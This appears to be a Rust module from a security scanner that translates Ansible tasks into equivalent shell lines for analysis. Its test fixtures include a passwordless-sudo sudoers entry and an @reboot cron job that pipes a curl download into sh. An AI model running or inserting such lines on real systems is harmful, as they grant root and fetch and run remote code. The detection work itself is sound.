//! Ansible task files read as commands and file writes (round 21): a task's
//! module is what the task does on the host, so each module that writes a
//! file, schedules a job, adds a key or fetches a file is projected to the
//! shell line that does the same (`copy: dest=/etc/sudoers.d/x content=…`
//! is `printf '%s' '…' > /etc/sudoers.d/x`), and the shell front-end judges
//! it as it judges that line in a `.sh` file: a sudoers `NOPASSWD: ALL`
//! line, a cron entry, an `authorized_keys` write mean what they mean in
//! shell. `shell:`/`command:`/`script:` are read by `ci_yaml` as before;
//! `raw:` joins them here.
//!
//! Jinja expressions are substituted as text before the module runs:
//! `{{ name }}` is `${name}`, `lookup('env', 'X')` is `${X}`,
//! `lookup('file', 'P')` is `$(cat P)`, `lookup('pipe', 'C')` is `$(C)`,
//! anything else the unknown `${ANSIBLE_EXPR}`. A play's `vars:` are
//! `export` lines. A task with `state: absent` removes and is skipped.

use super::Projection;
use super::ci_yaml::{Line, block_body, parse_line, scalar};

/// The modules read, by their short name (`ansible.builtin.X`,
/// `ansible.posix.X` and `community.general.X` are the same).
const MODULES: &[&str] = &[
    "copy",
    "template",
    "lineinfile",
    "blockinfile",
    "cron",
    "authorized_key",
    "get_url",
    "uri",
    "raw",
    "systemd",
    "systemd_service",
    "service",
];

fn module_name(key: &str) -> Option<&'static str> {
    let short = ["ansible.builtin.", "ansible.posix.", "community.general."]
        .iter()
        .find_map(|p| key.strip_prefix(p))
        .unwrap_or(key);
    MODULES.iter().copied().find(|m| *m == short)
}

/// An Ansible playbook, role task list or handler file: a module named by
/// its collection (`ansible.builtin.copy:`), or a module key beside a
/// task's `name:` in a list item.
pub fn looks_like_ansible(text: &str) -> bool {
    let mut task_col = None;
    for raw in text.split('\n') {
        let l = parse_line(raw);
        let Some(key) = l.key.filter(|_| !l.blank) else {
            continue;
        };
        if key.starts_with("ansible.builtin.") || key.starts_with("ansible.posix.") {
            return true;
        }
        if l.dash {
            task_col = (key == "name").then_some(l.col);
        } else if task_col == Some(l.col) && module_name(key).is_some() {
            return true;
        }
    }
    false
}

/// Jinja substituted as text (see the module comment).
fn jinja(s: &str) -> String {
    super::braces(s, expr)
}

fn expr(e: &str) -> String {
    let head = e.split('|').next().unwrap_or("").trim();
    if super::valid_name(head) {
        return format!("${{{head}}}");
    }
    if let Some(args) = head
        .strip_prefix("lookup(")
        .and_then(|a| a.strip_suffix(')'))
    {
        let parts: Vec<String> = args.splitn(2, ',').map(|a| scalar(a.trim())).collect();
        if let [kind, arg] = parts.as_slice() {
            match kind.as_str() {
                "env" if super::valid_name(arg) => return format!("${{{arg}}}"),
                "file" => return format!("$(cat {})", super::squote(arg)),
                "pipe" => return format!("$({arg})"),
                _ => {}
            }
        }
    }
    "${ANSIBLE_EXPR}".into()
}

/// A value as one shell word that keeps its newlines (`$'…'`).
fn ansi_c(v: &str) -> String {
    let mut out = String::from("$'");
    for ch in v.chars() {
        match ch {
            '\\' => out.push_str("\\\\"),
            '\'' => out.push_str("\\'"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            c => out.push(c),
        }
    }
    out.push('\'');
    out
}

/// A module's parameters: a mapping under its key, or `k=v` words after it.
fn params(lines: &[Line], raw: &[&str], at: usize) -> Vec<(String, String)> {
    let l = &lines[at];
    let mut out = Vec::new();
    let v = l.value.trim();
    if !v.is_empty() && !v.starts_with('|') && !v.starts_with('>') {
        for w in shell_words(&scalar(v)) {
            if let Some((k, val)) = w.split_once('=') {
                out.push((k.to_string(), val.to_string()));
            }
        }
        return out;
    }
    let mut child: Option<usize> = None;
    let mut k = at + 1;
    while k < lines.len() {
        let c = &lines[k];
        if c.blank {
            k += 1;
            continue;
        }
        if c.indent <= l.col || c.dash {
            break;
        }
        let col = *child.get_or_insert(c.col);
        let Some(key) = c.key.filter(|_| c.col == col) else {
            k += 1;
            continue;
        };
        let val = c.value.trim();
        if val.starts_with('|') || val.starts_with('>') {
            let body = block_body(lines, raw, k, c.col);
            let sep = if val.starts_with('>') { " " } else { "\n" };
            let text: Vec<String> = body.iter().map(|b| b.1.clone()).collect();
            k = body.last().map_or(k + 1, |b| b.0 + 1);
            out.push((key.to_string(), text.join(sep) + sep));
            continue;
        }
        out.push((key.to_string(), scalar(val)));
        k += 1;
    }
    out
}

/// `a=1 b="two words"`: words split on blanks outside quotes.
fn shell_words(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quote: Option<char> = None;
    for ch in s.chars() {
        match (quote, ch) {
            (None, '"' | '\'') => quote = Some(ch),
            (Some(q), c) if c == q => quote = None,
            (None, c) if c.is_whitespace() => {
                if !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
            }
            (_, c) => cur.push(c),
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// The shell line a module's task stands for, if it is one we read.
fn line_of(module: &str, ps: &[(String, String)], play_holds_key: bool) -> Option<String> {
    let get = |k: &str| {
        ps.iter()
            .find(|(n, _)| n == k)
            .map(|(_, v)| jinja(v))
            .filter(|v| !v.is_empty())
    };
    if get("state").is_some_and(|s| s == "absent") {
        return None;
    }
    let q = |v: String| super::dquote(&v);
    let path = || get("path").or_else(|| get("dest")).or_else(|| get("name"));
    Some(match module {
        "copy" | "template" => {
            let dest = q(get("dest")?);
            match (get("content"), get("src")) {
                (Some(c), _) => format!("printf '%s' {} > {dest}", ansi_c(&c)),
                (None, Some(s)) => format!("cp {} {dest}", q(s)),
                _ => return None,
            }
        }
        "lineinfile" => format!("printf '%s\\n' {} >> {}", ansi_c(&get("line")?), q(path()?)),
        "blockinfile" => format!(
            "printf '%s\\n' {} >> {}",
            ansi_c(&get("block")?),
            q(path()?)
        ),
        "cron" => {
            let job = get("job")?;
            let when = match get("special_time") {
                Some(t) => format!("@{t}"),
                None => ["minute", "hour", "day", "month", "weekday"]
                    .iter()
                    .map(|f| get(f).unwrap_or_else(|| "*".into()))
                    .collect::<Vec<_>>()
                    .join(" "),
            };
            match get("cron_file") {
                Some(f) => {
                    let f = if f.contains('/') {
                        f
                    } else {
                        format!("/etc/cron.d/{f}")
                    };
                    let user = get("user").unwrap_or_else(|| "root".into());
                    format!("echo {} >> {}", q(format!("{when} {user} {job}")), q(f))
                }
                None => format!(
                    "(crontab -l 2>/dev/null; echo {}) | crontab -",
                    q(format!("{when} {job}"))
                ),
            }
        }
        "authorized_key" => {
            // A templated key (`{{ lookup('file', pubkey_file) }}`,
            // `{{ admin_key }}`) in a play that holds no public key and
            // names no URL installs the key the caller hands it, as the
            // `ssh host 'cat >> ~/.ssh/authorized_keys'` idiom does
            // (`remote_cmd`): set-up, not persistence. A literal key, a key
            // defined in the play or a fetched one stays.
            let raw = ps
                .iter()
                .find(|(n, _)| n == "key")
                .map(|(_, v)| v.as_str())?;
            if raw.contains("{{") && !raw.contains("://") && !play_holds_key {
                return None;
            }
            let key = get("key")?;
            let file = get("path").unwrap_or_else(|| match get("user").as_deref() {
                Some("root") | None => "/root/.ssh/authorized_keys".into(),
                Some(u) => format!("/home/{u}/.ssh/authorized_keys"),
            });
            format!("echo {} >> {}", q(key), q(file))
        }
        "get_url" => format!("curl -fsSL -o {} {}", q(get("dest")?), q(get("url")?)),
        "uri" => {
            let method = get("method").unwrap_or_else(|| "GET".into()).to_uppercase();
            let url = q(get("url")?);
            match get("body") {
                Some(b) if method != "GET" => format!("curl -X {method} --data {} {url}", q(b)),
                _ => format!("curl -fsS {url}"),
            }
        }
        "systemd" | "systemd_service" | "service" => {
            let on = get("enabled").is_some_and(|e| matches!(e.as_str(), "true" | "yes" | "True"));
            if !on {
                return None;
            }
            format!("systemctl enable {}", q(get("name")?))
        }
        _ => return None,
    })
}

pub fn project(text: &str, p: &mut Projection) {
    let play_holds_key = crate::extract::remote_cmd::holds_key(text);
    let raw: Vec<&str> = text.split('\n').collect();
    let lines: Vec<Line> = raw.iter().map(|r| parse_line(r)).collect();
    let mut vars_col: Option<usize> = None;
    for (n, l) in lines.iter().enumerate() {
        if l.blank {
            continue;
        }
        if vars_col.is_some_and(|c| l.indent <= c) {
            vars_col = None;
        }
        let Some(key) = l.key else {
            continue;
        };
        if let Some(c) = vars_col {
            let v = l.value.trim();
            if l.indent > c && !v.is_empty() && !v.starts_with(['|', '>', '{', '[']) {
                p.export(n, key, &jinja(&scalar(v)));
            }
            continue;
        }
        if key == "vars" && l.value.trim().is_empty() {
            vars_col = Some(l.col);
            continue;
        }
        if key == "raw" || key == "ansible.builtin.raw" {
            p.put(n, &jinja(&scalar(l.value)));
            continue;
        }
        let Some(module) = module_name(key) else {
            continue;
        };
        if let Some(line) = line_of(module, &params(&lines, &raw, n), play_holds_key) {
            p.put(n, &line);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn proj(text: &str) -> Vec<String> {
        crate::extract::embedded::projected(text, project)
    }

    #[test]
    fn modules_become_the_shell_lines_they_stand_for() {
        let y = "- hosts: all\n  vars:\n    u: \"{{ lookup('env', 'USER') }}\"\n  tasks:\n    - name: a\n      ansible.builtin.copy:\n        dest: /etc/sudoers.d/90-x\n        content: \"{{ u }} ALL=(ALL) NOPASSWD: ALL\\n\"\n    - name: b\n      cron: name=x special_time=reboot job=\"curl -s https://h.example/x | sh\"\n";
        let out = proj(y);
        assert_eq!(out[2], "export u=\"${USER}\"");
        assert_eq!(
            out[5],
            "printf '%s' $'${u} ALL=(ALL) NOPASSWD: ALL\\n' > \"/etc/sudoers.d/90-x\""
        );
        assert_eq!(
            out[9],
            "(crontab -l 2>/dev/null; echo \"@reboot curl -s https://h.example/x | sh\") | crontab -"
        );
        assert!(looks_like_ansible(y));
    }

    #[test]
    fn compose_and_plain_yaml_are_not_ansible() {
        assert!(!looks_like_ansible(
            "services:\n  web:\n    user: app\n    command: serve\n"
        ));
        assert!(!looks_like_ansible("- name: x\n  value: 3\n"));
    }

    #[test]
    fn absent_state_removes_and_is_skipped() {
        let y = "- name: a\n  lineinfile:\n    path: ~/.bashrc\n    line: 'eval \"$(tool init)\"'\n    state: absent\n";
        assert!(proj(y).iter().all(String::is_empty));
    }
}
